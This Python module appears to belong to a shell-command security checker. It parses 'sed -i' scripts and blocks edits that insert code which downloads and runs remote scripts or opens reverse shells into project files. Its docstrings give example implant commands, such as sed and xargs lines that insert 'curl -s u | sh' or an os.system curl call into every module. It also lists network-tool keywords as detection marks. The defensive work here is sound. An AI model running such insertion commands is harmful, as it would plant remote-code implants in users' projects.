"""The text ``sed -i`` puts into the files it edits.

``sed -i '1a curl -s u | sh' setup.sh && bash setup.sh`` runs curl's output: the lines that
``a``/``i``/``c`` add (GNU one-line ``1a TEXT``, ``$a\\TEXT``, or POSIX ``a\\`` with the
text on the next lines) and the replacements of ``s/RE/REPL/`` become the file's text. When
the file's text is known (written earlier in the command) and the script is one
:mod:`._sedeval` evaluates, the new text is computed; otherwise the added text is at least
*part* of the file, so running the file runs it: it is recorded as the file's text (added to
what is known), like ``echo TEXT >> F``. A replacement is a piece of a line (``s/foo/bar/``
puts ``bar`` in the middle of one), so it is recorded only when, read as code of the file,
it blocks on its own (``s/^set -e$/set -e; curl u | sh/``); ``s|/usr/local|$HOME/.local|``
records nothing.

Inserting code that fetches and runs code (or opens a reverse shell) into project files
blocks by itself, without a run in the same command: ``find . -name '*.py' | xargs sed -i
'1i import os;os.system("curl -s u|sh")'`` plants it in every module (no everyday edit adds
a download-and-run line to existing sources). The added text is read as code of the file's
language (by its extension: ``.py`` Python, ``.js`` node, ``.rb`` Ruby, ``.pl`` Perl, else
shell; a file whose language is not known is tried as shell, Python and node).
In ``package.json``, each added ``"key": "value"`` value is a script npm runs later
(:mod:`._pkgscripts`).

One pass over at most :data:`_MAX_CHARS` characters of the scripts; never raises.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from .._result import Verdict
from ._copies import appended, land
from ._interpcode import interp_code
from ._paths import norm_path
from ._pkgscripts import package_json_text
from ._resolve import Invocation
from ._sedfiles import _regex_end, sed_commands
from ._textout import text_output
from ._words import DYN, NO_TAINT, Field, Taint

if TYPE_CHECKING:
    from ._walk import Run

__all__ = ["sed_inserted", "sed_texts"]

_MAX_CHARS = 65536
_MAX_TEXTS = 16
_MAX_FILES = 256  # files the run tracks (as _files does)
# Findings that make an inserted line an implant by itself: fetched code run, a reverse shell.
_IMPLANT = frozenset({"shell.pipe-to-shell", "shell.download-exec", "shell.tainted-exec",
                      "shell.reverse-shell"})
# Cheap gate: text that could fetch code or open a connection.
_NET_MARKS = ("http", "curl", "wget", "/dev/tcp", "/dev/udp", "base64", "nc ", "ncat",
              "socat", "fetch", "urlopen", "request", "iwr", "invoke-", "ftp:", "xxd")
_CODE_CHARS = frozenset(" ;|&$`(")
# A one-line Python replacement without a call, a decorator or a backslash (DEBUG = False,
# version = "2") runs nothing: it is not read as code (about 40 µs per sed -i on a .py file).
_PY_INERT = frozenset("(@\\")
_LANGS = {"py": "python", "js": "node", "mjs": "node", "cjs": "node", "ts": "node",
          "rb": "ruby", "pl": "perl", "pm": "perl", "php": "php"}
_SHELL_EXT = frozenset({"sh", "bash", "zsh", "ksh", "dash", "bashrc", "zshrc", "profile",
                        "envrc", "command"})
_DATA_EXT = frozenset({"json", "md", "txt", "rst", "yml", "yaml", "toml", "ini", "cfg",
                       "conf", "csv", "lock", "html", "css", "xml", "svg", "log", "mk",
                       "dockerfile", "gitignore", "dockerignore"})
# Build recipes, where an install line fetching and running a script is everyday (RUN curl
# u | bash in a Dockerfile); the text is still recorded for a later run of the file.
_RECIPES = ("dockerfile", "containerfile", "makefile", "gnumakefile", "justfile",
            "jenkinsfile", "earthfile", "vagrantfile", "procfile")


def sed_texts(script: str) -> list[tuple[str, str]]:
    """(command letter, text) of every ``a``/``i``/``c`` text and ``s`` replacement of a sed
    script; a replacement's ``&`` is the literal text its regex matches when that is plain,
    and a back-reference (``\\1``: not known) stands as the word ``true``. Flags after an
    ``s`` are flags (``s/a/b/i`` inserts nothing, ``s/a/b/e;a X`` still adds ``X``)."""
    out: list[tuple[str, str]] = []
    if not any(c in script for c in "aics"):
        return out
    text = script[:_MAX_CHARS]
    for c, start, end in sed_commands(text):
        if c in "aic":
            added = _added_text(text[start:end])
            if added:
                out.append((c, added))
        elif c == "s" and start < end:
            delim = text[start]
            if delim in "\n\\":
                continue
            mid = _regex_end(text, start + 1, delim)
            close = _regex_end(text, mid, delim)
            if close <= len(text) and text[close - 1:close] == delim:
                repl = _replacement(text[mid:close - 1], delim, text[start + 1:mid - 1])
                if repl.strip():
                    out.append(("s", repl))
        if len(out) >= _MAX_TEXTS:
            break
    return out


def _added_text(raw: str) -> str:
    """The text of ``a``/``i``/``c`` from just after the letter: ``a\\`` then lines, GNU
    ``a TEXT`` (leading blanks dropped, a first backslash keeps them), continued lines."""
    k = 0
    while k < len(raw) and raw[k] in " \t":
        k += 1
    if raw[k:k + 2] == "\\\n":
        k += 2
    elif raw[k:k + 1] == "\\":
        k += 1
    out: list[str] = []
    body = raw[k:]
    j = 0
    while j < len(body):
        ch = body[j]
        if ch == "\\" and j + 1 < len(body):
            out.append(body[j + 1])  # \\ is \, \<newline> is a newline, \X is X
            j += 2
            continue
        out.append(ch)
        j += 1
    return "".join(out)


def _replacement(repl: str, delim: str, regex: str) -> str:
    """The text an ``s`` replacement writes (``&``: the regex's plain text, if any)."""
    plain = regex.strip("^$")
    if any(ch in plain for ch in "\\.*[]+?(){}|"):
        plain = ""
    out: list[str] = []
    j = 0
    while j < len(repl):
        ch = repl[j]
        if ch == "\\" and j + 1 < len(repl):
            nxt = repl[j + 1]
            j += 2
            if nxt == "n":
                out.append("\n")
            elif nxt == "t":
                out.append("\t")
            elif nxt.isdigit():
                out.append("true")  # \1: matched text not known (a word keeps \1; CMD valid)
            elif nxt not in "ULulE":
                out.append(nxt)  # \/ \& \\ : the character itself
            continue
        out.append(plain if ch == "&" else ch)
        j += 1
    return "".join(out)


def _language(path: str) -> str | None:
    """The language of a file by its name: "sh", another language, or None (not known)."""
    name = path.rpartition("/")[2]
    ext = name.rpartition(".")[2].lower() if "." in name.lstrip(".") else ""
    if name.startswith(".") and not ext:
        ext = name[1:].lower()
    if ext in _LANGS:
        return _LANGS[ext]
    if ext in _SHELL_EXT:
        return "sh"
    if ext in _DATA_EXT or name == "package.json" or name.lower().startswith(_RECIPES):
        return "data"
    return None


def sed_inserted(run: Run, inv: Invocation, scripts: list[Field], operands: list[Field]
                 ) -> None:
    """``sed -i``: record the text its ``scripts`` put into the ``operands`` files, and
    block an inserted download-and-run line by itself (see the module doc)."""
    joined = "\n".join(s.text for s in scripts[:16])
    texts = sed_texts(joined) if DYN not in joined else []
    if not texts and not run.file_text:
        return  # sed -i 's/a/b/' f: nothing that could run, no known text to update
    taint: Taint = frozenset().union(*(s.taint for s in scripts[:16])) or NO_TAINT
    span = scripts[0].span if scripts else inv.word.span
    ops = {id(f) for f in operands}
    # The arguments without the files and -i (as _textout's sed reads them).
    args = [f.text for f in inv.args if id(f) not in ops and not f.text.startswith(
        ("-i", "--in-place"))]
    lines = [t for c, t in texts if c != "s"]
    tried: dict[str | None, list[str]] = {}
    for f in operands[:16]:
        path = norm_path(f.text, run.cwd) if f.static else None
        old = run.file_text.get(path) if path is not None else None
        if not texts and old is None:
            continue
        language = _language(path) if path is not None else None
        pieces = tried.get(language)
        if pieces is None and language != "data":
            # (each language once: xargs sed -i over many files of one kind)
            pieces = [t for c, t in texts if c == "s" and _CODE_CHARS.intersection(t)
                      and (language != "python" or not _PY_INERT.isdisjoint(t) or "\n" in t)]
            pieces = [p for p in pieces if _blocks(run, p, language, span, keep=None)]
            for code in [*lines, *pieces]:
                if any(m in code.lower() for m in _NET_MARKS):
                    _blocks(run, code, language, span, keep=_IMPLANT)
            tried[language] = pieces
        if path is None:
            continue
        if path.rpartition("/")[2] == "package.json" and "package.json" not in tried:
            tried["package.json"] = []  # "prepare": "CODE" added: a script npm runs later
            for _, text in texts:
                package_json_text(run, text, span, "added by sed -i")
        _record(run, path, old, args, [*lines, *(pieces or ())], f.span)
        if taint and (path in run.files or len(run.files) < _MAX_FILES):
            run.files[path] = run.files.get(path, NO_TAINT) | taint


def _record(run: Run, path: str, old: str | None, args: list[str], added: list[str],
            span: tuple[int, int]) -> None:
    """The file's text after the edit: computed when the old text is known and the script
    evaluable; else the old text (if known) with the added text after it; else unknown."""
    new = text_output("sed", args, old) if old is not None else None
    if new is None and added:
        new = old
        for text in added:
            new = appended(new, text, "sed")
    if new is not None:
        land(run, path, new, NO_TAINT, False, span)
    else:
        run.file_text.pop(path, None)  # rewritten, to a text not known


def _blocks(run: Run, code: str, language: str | None, span: tuple[int, int],
            keep: frozenset[str] | None) -> bool:
    """Whether ``code``, as code of a file in ``language`` (None: tried as shell, Python
    and node), blocks. Its findings are kept when one of them is in ``keep``."""
    langs = (language,) if language is not None else ("sh", "python", "node")
    for lang in langs:
        findings, commands = len(run.findings), len(run.commands)
        _classify(run, code, lang, span)
        added = run.findings[findings:]
        # Text that does not parse as shell (import os;os.system(..)) is tried as the next.
        other = lang != langs[-1] and any(f.rule_id == "shell.parse-incomplete" for f in added)
        blocked = not other and any(f.severity is Verdict.BLOCK for f in added)
        if blocked and keep is not None and any(
                f.severity is Verdict.BLOCK and f.rule_id in keep for f in added):
            return True
        for f in added:
            run.seen.discard((f.rule_id, f.span.start, f.span.end))
        del run.findings[findings:]
        del run.commands[commands:]
        if blocked:
            return True
    return False


def _classify(run: Run, code: str, language: str, span: tuple[int, int]) -> None:
    field = Field(code, span)
    if language == "sh":
        run.run_code(field, "the text sed -i adds", span, None, positional=[])
    else:
        interp_code(run, field, language, Invocation(language, Field(language, span)))
